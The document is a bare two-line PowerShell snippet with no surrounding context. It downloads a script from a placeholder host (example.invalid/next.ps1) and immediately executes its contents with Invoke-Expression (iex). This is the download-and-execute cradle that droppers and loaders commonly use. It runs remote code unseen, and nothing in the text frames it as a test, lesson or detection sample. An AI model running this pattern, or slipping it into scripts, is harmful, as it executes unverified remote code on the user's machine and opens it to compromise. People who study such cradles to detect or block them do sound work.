$r = Invoke-WebRequest -Uri http://example.invalid/next.ps1
iex $r.Content
